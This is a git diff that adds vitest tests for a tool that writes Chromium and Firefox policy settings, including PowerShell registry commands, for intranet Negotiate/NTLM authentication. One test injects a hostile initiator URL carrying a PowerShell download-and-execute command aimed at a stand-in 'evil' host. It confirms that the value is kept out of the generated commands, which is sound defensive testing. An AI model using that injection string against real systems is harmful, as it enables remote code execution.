@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { allowlistPatternFor, chromiumPolicy, firefoxPref } from '../../../src/core/diagnosis/policies';
+import { diagnoseExchange } from '../../../src/core/diagnosis/findings';
+import { mainExchange, recordingOf, syntheticExchange } from '../../../tools/fixtures/recordings';
 
 describe('policy settings, ready to copy', () => {
   it('adds to an allowlist an organisation may already fill — never overwrites it — on Windows, Linux and macOS', () => {
@@ -42,5 +44,46 @@ describe('policy settings, ready to copy', () => {
   it('builds the allowlist pattern from the parent domain', () => {
     expect(allowlistPatternFor('intranet.corp.example')).toBe('*.corp.example');
     expect(allowlistPatternFor('intranet')).toBe('intranet');
+  });
+});
+
+describe('the 2026 policies in the advice', () => {
+  const challenged = (url: string, initiator: string | null = null) => {
+    const exchange = syntheticExchange(url, [{ status: 401, headers: [{ name: 'WWW-Authenticate', value: 'Negotiate' }] }]);
+    return { ...exchange, initiator };
+  };
+  const settingsOf = (findings: ReturnType<typeof diagnoseExchange>) =>
+    findings.flatMap((finding) => finding.fixes.flatMap((fix) => fix.settings ?? [])).map((setting) => `${setting.how} ${setting.value}`);
+
+  it('URL-list policies add a numbered entry on Windows and an array entry elsewhere', () => {
+    const settings = chromiumPolicy('LocalNetworkAccessAllowedForUrls', 'https://portal.example.com');
+    expect(settings[0]?.value).toContain(`HKLM:\\SOFTWARE\\Policies\\Google\\Chrome\\LocalNetworkAccessAllowedForUrls`);
+    expect(settings[0]?.value).toContain(`Set-ItemProperty -Path $k -Name $n -Value 'https://portal.example.com'`);
+    expect(settings[2]?.value).toBe('{"LocalNetworkAccessAllowedForUrls":["https://portal.example.com"]}');
+    expect(settings[3]?.value).toBe(
+      'defaults write com.google.Chrome LocalNetworkAccessAllowedForUrls -array-add "https://portal.example.com"',
+    );
+  });
+
+  it('no token sent: AuthSchemes and AllHttpAuthSchemesAllowedForOrigins; Local Network Access when a page elsewhere loaded it', () => {
+    const plain = settingsOf(diagnoseExchange(challenged('http://intranet.example/')));
+    expect(plain.join('\n')).toContain('"AuthSchemes":"basic,digest,ntlm,negotiate"');
+    expect(plain.join('\n')).toContain('"AllHttpAuthSchemesAllowedForOrigins":["http://intranet.example"]');
+    expect(plain.join('\n')).not.toContain('LocalNetworkAccessAllowedForUrls');
+    const embedded = settingsOf(diagnoseExchange(challenged('http://intranet.example/', 'https://portal.example.com')));
+    expect(embedded.join('\n')).toContain('"LocalNetworkAccessAllowedForUrls":["https://portal.example.com"]');
+    const hostile = settingsOf(diagnoseExchange(challenged('http://intranet.example/', "https://x'; iwr evil|iex #.example")));
+    expect(hostile.join('\n')).not.toContain('LocalNetworkAccessAllowedForUrls');
+  });
+
+  it('Firefox’s prompt names network.auth.force-generic-ntlm; delegation names AuthNegotiateDelegateByKdcPolicy (macOS, Linux)', () => {
+    // The recorded prompt (Chromium asks for NTLM credentials on Linux), as Firefox would have shown it.
+    const prompted = mainExchange(recordingOf('chromium', 'ntlm-only'));
+    expect(settingsOf(diagnoseExchange(prompted)).join('\n')).not.toContain('force-generic-ntlm');
+    expect(settingsOf(diagnoseExchange({ ...prompted, browser: 'firefox' })).join('\n')).toContain(
+      'user_pref("network.auth.force-generic-ntlm", false);',
+    );
+    const delegation = chromiumPolicy('AuthNegotiateDelegateByKdcPolicy', true);
+    expect(delegation.map((setting) => setting.value)).toContain('{"AuthNegotiateDelegateByKdcPolicy":true}');
   });
 });
